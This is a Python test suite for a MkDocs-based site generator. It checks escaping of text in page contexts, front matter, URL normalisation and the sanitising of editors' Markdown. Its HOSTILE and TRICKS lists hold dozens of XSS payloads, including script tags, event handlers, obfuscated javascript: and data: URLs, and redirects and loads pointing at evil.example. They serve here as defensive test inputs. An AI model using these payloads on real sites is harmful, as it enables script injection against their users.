"""Text stays text: in every place of a page, in front matter, in links; editors' Markdown cannot run."""

from __future__ import annotations

import html
import re
import string
from collections.abc import Iterator
from typing import Any

import markdown
import pytest
import yaml
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from jinja2 import Environment, nodes
from lxml import html as lxml_html
from lxml.html import HtmlElement

from generator.model.fields import Address
from generator.model.quotes import address_of_words
from generator.pages.render import sections
from generator.read.partial import validator
from generator.text.escape import front_matter, mark_chinese, mark_chinese_within, markdown_text, readable, web_address
from generator.text.prose import clean_html
from tests.sites import PROJECT

_CONFIG: dict[str, Any] = yaml.safe_load((PROJECT / "mkdocs.yml").read_text("utf-8"))
# What MkDocs adds by itself, and ours.
EXTENSIONS = ["toc", "tables", "fenced_code"] + [
    name for entry in _CONFIG["markdown_extensions"] for name in ([entry] if isinstance(entry, str) else entry)
]

# The places of a page where templates print text.
CONTEXTS = {
    "paragraph": "before\n\n{}\n\nafter",
    "heading": "# {}\n\nafter",
    "heading with attributes": "### {} { #id }\n\nafter",
    "list": "- a\n- {}\n",
    "numbered list": "1. [{}](x.md)  \n    {}, b (c), 2024. [Original](https://example.org)\n",
    "table": "| a | b |\n| :--- | ---: |\n| {} | [{}](x.md) |\n",
    "link": "[{}](x.md), after",
    "link with number": 'before&#8288;[1](x.md "Source 1: {}"){ .note } after',
    "bold": "- **{}:** after",
    "lead": "{}&#8288;[1](x.md){ .note }\n{: .lead }\n",
    "span": '<span class="chip">{}</span> after',
    "kicker": '<p class="kicker">{} · {}</p>\n\n# After',
    "code": "- <code>{}</code>\n",
    "ledger": '<div class="ledger" markdown>\n\n- <span class="when">{}</span>\n  <span class="what">{}\n'
    '  <span class="meta">{} · {}</span></span>\n\n</div>',
    "front": '<div class="front" markdown>\n<div markdown>\n\n# [{}](x.md) { #latest }\n\n{}\n\n</div>\n</div>',
}
TRICKS = [
    "<script>alert(1)</script>",
    "</p></div></span><img src=x onerror=alert(1)>",
    "&lt;b&gt; &#60;b&#62; &amp;amp;",
    "# x",
    "## x ##",
    "---",
    "===",
    "* * *",
    "- x",
    "+ x",
    "12. x",
    "1) x",
    "    code",
    "```python",
    "~~~",
    "> quote",
    "| a | b |",
    "|---|---|",
    "[x](javascript:alert(1))",
    "![x](https://example.org/x.png)",
    "[x]: https://example.org",
    "*[x]: y",
    "[^1]: note",
    "[TOC]",
    "{: onclick=alert(1) }",
    "{ .x #y onclick='alert(1)' }",
    "*a* **b** _c_ __d__ `e` ~~f~~ ^g^ ==h== $i$",
    "\\*a\\* \\",
    '"> <a href=x title="',
    "https://example.org <https://example.org> a@example.org",
    "!!! note",
    ": definition",
    "{{ 7*7 }} {% x %} {# y #}",
    "--8<-- file",
    "&copy; & AT&T &",
    "é “quoted” – 海港 みなと \N{SMILING FACE WITH SUNGLASSES}",
]
# Signs of markup often, and now and then anything that can be in a file of content.
SIGNS = st.text(st.sampled_from(string.punctuation * 3 + "0123456789 abAB\t中é"), min_size=1, max_size=25)
ANY = st.text(st.characters(exclude_categories=("Cc", "Cf", "Cs", "Co", "Cn")), min_size=1, max_size=25)
TEXTS = st.one_of(SIGNS, ANY, st.lists(st.sampled_from(TRICKS), min_size=1, max_size=3).map(" ".join))


def page(context: str, text: str) -> HtmlElement:
    made = markdown.markdown(context.replace("{}", text), extensions=EXTENSIONS)
    return lxml_html.fragment_fromstring(made, create_parent=True)


def folded(text: str | None) -> str:
    return " ".join((text or "").split())


def tags(tree: HtmlElement) -> list[tuple[object, list[str]]]:
    return [(element.tag, sorted(element.attrib)) for element in tree.iter()]


_LETTERS = "Qqq"
EMPTY = {name: page(context, _LETTERS) for name, context in CONTEXTS.items()}


def _reads_back(name: str, text: str, written: str) -> None:
    made, empty = page(CONTEXTS[name], written), EMPTY[name]
    assert tags(made) == tags(empty), name
    assert folded(made.text_content()) == folded(empty.text_content().replace(_LETTERS, folded(text))), name
    titles = [folded(title) for title in made.xpath("//@title")]
    assert titles == [folded(title.replace(_LETTERS, folded(text))) for title in empty.xpath("//@title")], name


def with_tricks(test: Any) -> Any:
    for trick in TRICKS:
        test = example(trick)(test)
    return test


@with_tricks
@settings(max_examples=150)
@given(TEXTS)
def test_any_text_reads_the_same_in_any_place_of_a_page(text: str) -> None:
    assume(folded(text))
    for name in CONTEXTS:
        _reads_back(name, text, markdown_text(text))


def test_text_is_escaped_once() -> None:
    once = markdown_text("*a* & b")
    assert markdown_text(once) == once


@given(TEXTS, TEXTS)
def test_a_text_of_which_a_part_is_marked_reads_as_the_whole(one: str, two: str) -> None:
    assume(folded(one) and folded(two))
    for first, second in ((one, two), (f"{one} ", two), (one, f" {two}")):
        space = " " * first[-1].isspace()
        made = f"{mark_chinese(first)}{space}<b>{mark_chinese_within(second)}</b>{mark_chinese_within(second)}"
        text = EMPTY["paragraph"].text_content().replace(_LETTERS, f"{first}{second}{second}")
        assert folded(page(CONTEXTS["paragraph"], made).text_content()) == folded(text)


@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1))
def test_an_address_that_is_readable_is_encoded_by_a_browser_again(words: str) -> None:
    address = address_of_words("https://example.org/a?b=%E4%B8&c=1", f"{words} end")
    shown = readable(address)
    assert web_address(shown) == web_address(address)
    # Nothing in it ends the address, and only whole letters are decoded.
    assert not re.search(r'[\s"<>]', shown, re.ASCII)
    assert "%E4%B8&" in shown


@given(TEXTS)
def test_marking_chinese_changes_no_text(text: str) -> None:
    assume(folded(text))
    for name in ("paragraph", "heading", "table", "link", "ledger"):
        made = page(CONTEXTS[name], mark_chinese(text))
        assert folded(made.text_content()) == folded(EMPTY[name].text_content().replace(_LETTERS, folded(text)))
        assert {element.get("lang") for element in made.iter("span")} <= {None, "zh-Hans"}


def test_chinese_is_marked_and_japanese_is_not() -> None:
    assert mark_chinese("a 海港城（2024）b") == 'a <span lang="zh-Hans">海港城（</span>2024）b'
    assert mark_chinese("みなと 港") == "みなと 港"


def test_a_chinese_name_with_another_in_brackets_is_one_run() -> None:
    assert mark_chinese("Quay 海港城 (西码头)") == 'Quay <span lang="zh-Hans">海港城 (西码头)</span>'
    assert mark_chinese("海港城(码头) (a) (码头)") == (
        '<span lang="zh-Hans">海港城(码头)</span> (a) (<span lang="zh-Hans">码头</span>)'
    )


# --- front matter ---


@with_tricks
@given(TEXTS)
def test_front_matter_is_yaml_that_holds_the_text_as_html(text: str) -> None:
    fields = {"title": text, "feed": {"name": text, "list": [text]}, "search": {"exclude": True}}
    written = front_matter(**fields)
    assert not re.search(r"[<>]", written)
    first, *lines, last = written.split("\n")
    assert (first, last, len(lines)) == ("---", "---", len(fields))
    meant = html.escape(text)
    assert yaml.safe_load("\n".join(lines)) == {
        "title": meant,
        "feed": {"name": meant, "list": [meant]},
        "search": {"exclude": True},
    }
    assert html.unescape(meant) == text


# --- web addresses ---

ADDRESSES = st.builds(
    "{}://{}{}{}".format,
    st.sampled_from(["http", "https", "HTTPS"]),
    st.one_of(
        st.sampled_from(["example.org", "bücher.example", "例子.example", "EXAMPLE.org:8080", "[2001:db8::1.2.3.4]"]),
        st.text(st.sampled_from("ab.-_()*'!:[]~"), min_size=3, max_size=12),
    ),
    st.sampled_from(["", "/", "/a/", "/?q=", "/#"]),
    st.text(st.sampled_from("ab中é()[]*_'!$&,;=:@~%20?#/.-+"), max_size=15),
)


@example("https://example.org/a_(b)_*c*?d=[e]&f='g'#h!")
@example("https://a.b)c.example/")
@example("https://[2001:db8::1.2.3.4]/")
@example("https://example.org/100%")
@given(ADDRESSES)
def test_an_address_that_is_read_is_one_link_and_still_leads_there(text: str) -> None:
    try:
        read = validator(Address).validate_python(text)
    except ValueError:
        assume(False)
    written = web_address(read)
    # RFC 3986: nothing but the signs of addresses, and each % begins two hexadecimal digits.
    assert re.fullmatch(r"https?://(?:[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=]|%[0-9A-Fa-f]{2})*", written)
    assert web_address(written) == written
    (link,) = page("before [x]({}){ .note } after", written).iter("a")
    assert link.get("href") == written
    assert link.text == "x"


@pytest.mark.parametrize(
    ("address", "written"),
    [
        ("https://example.org/报告?问=答#部", "https://example.org/%E6%8A%A5%E5%91%8A?%E9%97%AE=%E7%AD%94#%E9%83%A8"),
        ("https://例子.example/", "https://xn--fsqu00a.example/"),
        ("HTTP://Example.ORG:8080/A%20b_(c)", "http://example.org:8080/A%20b_%28c%29"),
        ("https://example.org/a*b?c='d'&e=f", "https://example.org/a%2Ab?c=%27d%27&e=f"),
    ],
)
def test_addresses_are_written_as_ascii(address: str, written: str) -> None:
    assert web_address(address) == written


# --- editors' Markdown ---

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/x.png)",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p onclick=alert(1) style='background:url(https://evil.example)' id=x class=y>text</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)' target=_blank ping=https://evil.example>x</a>",
    "<a href=https://example.org onmouseover=alert(1)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * {background: url(x)}</style>",
    "<form action=https://evil.example><input name=x autofocus onfocus=alert(1)><button formaction=x>y</button></form>",
    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "</div></article><script>alert(1)</script>",
    "<div markdown='1' onclick='alert(1)'>\n\n[x](javascript:alert(1))\n\n</div>",
    "*x*{: onclick=alert(1) }",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
]
ALLOWED = {"a", "blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong", "ul"} | {
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    # Around Chinese alone, with its language.
    "span",
}


def _cannot_run(made: str) -> None:
    tree = lxml_html.fragment_fromstring(made, create_parent=True)
    for element in tree.iterdescendants():
        assert element.tag in ALLOWED
        assert set(element.attrib) <= {"a": {"href"}, "span": {"lang"}}.get(str(element.tag), set())
        if (href := element.get("href")) is not None:
            assert re.match(r"(?i)https?://|(?![^/?#]*:)", href), href
            assert not re.search(r"[\x00-\x20]", href)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_could_run_or_load_is_left_of_an_editors_markdown(text: str) -> None:
    for wrapped in (text, f"before {text} after", f"## Heading\n\n{text}", f"- {text}", f"> {text}"):
        _cannot_run(clean_html(wrapped))


@given(st.lists(st.one_of(st.sampled_from(HOSTILE), SIGNS, st.just("\n\n")), max_size=6).map("".join))
def test_no_mixture_of_hostile_parts_runs(text: str) -> None:
    _cannot_run(clean_html(text))


@given(st.lists(st.one_of(st.sampled_from(HOSTILE), SIGNS, st.just("\n\n"), st.just("\n## ")), max_size=6).map("".join))
def test_what_an_editor_wrote_stays_within_its_part_of_the_page(text: str) -> None:
    for heading, body in sections(text):
        written = f'## {markdown_text(heading)}\n\n<div class="prose">\n{body}\n</div>\n\nAfter'
        made = lxml_html.fragment_fromstring(markdown.markdown(written, extensions=EXTENSIONS), create_parent=True)
        top, prose, after = made
        assert (top.tag, prose.tag, after.tag) == ("h2", "div", "p")
        assert folded(after.text_content()) == "After"
        _cannot_run(lxml_html.tostring(prose, encoding="unicode").removeprefix('<div class="prose">'))


def test_what_editors_may_write_is_kept() -> None:
    made = clean_html(
        "*a* **b** `c`\n\n> d\n\n1. e\n\n### f\n\n[g](https://example.org/?a=1&b=2)\n\n| h |\n| - |\n| i |"
    )
    for part in (
        "<em>a</em>",
        "<strong>b</strong>",
        "<code>c</code>",
        "<blockquote>",
        "<ol>",
        "<h3>f</h3>",
        "<td>i</td>",
    ):
        assert part in made
    assert '<a href="https://example.org/?a=1&amp;b=2">g</a>' in made


def test_links_between_an_editors_pages_lead_from_one_to_the_other() -> None:
    ((_, made),) = sections("[a](methodology.md) [b](about.md#part) [c](https://example.org/x.md)")
    assert re.findall('href="([^"]*)"', made) == ["../methodology/", "../about/#part", "https://example.org/x.md"]


# --- templates ---


def _texts(node: nodes.Expr) -> Iterator[nodes.Expr]:
    """The values that an expression chooses among or repeats."""
    match node:
        case nodes.CondExpr():
            yield from _texts(node.expr1)
            if node.expr2:
                yield from _texts(node.expr2)
        case nodes.Mul():
            yield from _texts(node.left)
        case _:
            yield node


def test_what_a_template_prints_unescaped_is_written_in_it() -> None:
    seen = 0
    for path in (PROJECT / "templates/pages").rglob("*.j2"):
        for used in Environment().parse(path.read_text("utf-8")).find_all(nodes.Filter):
            if used.name == "html":
                for printed in (used.node, *(keyword.value for keyword in used.kwargs)):
                    assert printed
                    assert all(isinstance(text, nodes.Const) for text in _texts(printed)), (path, used.lineno)
                    seen += 1
    assert seen
